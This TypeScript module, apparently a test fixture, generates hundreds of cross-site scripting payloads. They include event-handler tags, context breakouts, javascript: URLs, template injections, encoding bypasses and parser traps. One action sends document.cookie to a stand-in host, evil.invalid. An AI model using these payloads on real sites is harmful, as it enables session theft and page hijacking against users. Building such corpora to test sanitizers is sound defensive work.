/** What would show if any of these ran: a dialog, a request to another host, or a change of the page. */
const acts = [`alert(1)`, `fetch('//evil.invalid/'+document.cookie)`, `top.location='//evil.invalid'`] as const

const elements = [
  'img src=x',
  'svg',
  'video src=x',
  'audio src=x',
  'iframe src=x',
  'object data=x',
  'embed src=x',
  'body',
  'input autofocus',
  'details open',
  'marquee',
  'math',
  'a href=x',
  'button popovertarget=x',
  'style',
  'link rel=stylesheet href=x',
  'template',
  'select autofocus',
  'table background=x',
  'p style=animation-name:x',
] as const
const events = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onanimationstart',
  'onbeforetoggle',
  'onstart',
  'onpaste',
]

const byEvent = elements.flatMap((element) => events.map((event) => `<${element} ${event}=${acts[0]}>`))

const ways = [
  ['"', '>'],
  ["'", '>'],
  ['--', '>'],
  ['</title', '>'],
  ['</textarea', '>'],
  ['</script', '>'],
  ['</style', '>'],
  [']]', '>'],
  ['`', ''],
  ['\\"', ')'],
] as const
const inside = [
  ...acts.map((act) => `<script>${act}</script>`),
  ...acts.map((act) => `<img src=x onerror="${act}">`),
  '<svg/onload=alert`1`>',
  '<base href=//evil.invalid/>',
  '<meta http-equiv=refresh content="0;url=//evil.invalid">',
  '<form action=//evil.invalid><input type=submit>',
]
const outOfContext = ways.flatMap(([end, close]) => inside.map((markup) => `${end}${close}${markup}`))

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'javascript&colon;',
  'java&#x73;cript:',
  '&#106;avascript:',
  'javascript\u2028:',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#',
  'blob:http://localhost/',
  'file:///etc/passwd#',
  'view-source:http://evil.invalid/#',
  'http://user@evil.invalid\\@',
  '//evil.invalid/',
]
const links = schemes.flatMap((scheme) => [
  `${scheme}${acts[0]}`,
  `[click](${scheme}${acts[0]})`,
  `![picture](${scheme}${acts[0]})`,
  `<${scheme}${acts[0]}>`,
  `<a href="${scheme}${acts[0]}">click</a>`,
  `http://example.com/?next=${scheme}${acts[0]}`,
])

const templates = [
  `{{constructor.constructor('${acts[0]}')()}}`,
  `{{7*7}}`,
  '$' + '{alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '@{alert(1)}',
  '[[$' + '{alert(1)}]]',
  '{%import os%}{{os}}',
  `{count, plural, other {<img src=x onerror=${acts[0]}>}}`,
  '<div v-html="`<img src=x onerror=alert(1)>`">',
  `<x ng-app>{{$on.constructor('${acts[0]}')()}}`,
  '__proto__[innerHTML]=<img src=x onerror=alert(1)>',
]

const encode = {
  entities: (text: string) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  twice: (text: string) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  percent: (text: string) => encodeURIComponent(text),
  escapes: (text: string) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  fullwidth: (text: string) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  utf7: (text: string) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  override: (text: string) => `\u202e${text}\u202c`,
  joined: (text: string) => [...text].join('\u200b'),
  upper: (text: string) => text.toUpperCase(),
  halfTag: (text: string) => text.replaceAll('>', ''),
}
const encoded = Object.values(encode).flatMap((change) => inside.map(change))

const parserTraps = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>">',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<a href="x" id=a><a id=a name=body href=javascript:alert(1)>',
  '<style>@import "//evil.invalid/x.css";*{background:url(//evil.invalid/x)}</style>',
  '<div style="background:url(javascript:alert(1));width:expression(alert(1))">',
  '<img srcset="//evil.invalid/x 1x" src=x style=position:fixed;inset:0>',
]

/** Texts that have run as programs elsewhere, in other people's pages. At least 500. */
export const hostileTexts: readonly string[] = [
  ...byEvent,
  ...outOfContext,
  ...links,
  ...templates,
  ...encoded,
  ...parserTraps,
]

/** Some of each kind, short enough for a name. */
export const hostileNames: readonly string[] = [
  `<img src=x onerror=${acts[0]}>`,
  '<script>alert(1)</script>',
  '"><svg/onload=alert(1)>',
  `'-alert(1)-'`,
  'javascript:alert(1)',
  `{{constructor.constructor('alert(1)')()}}`,
  '</title><script>alert(1)</script>',
  '\u202egpj.exe<b onclick=alert(1)>',
]
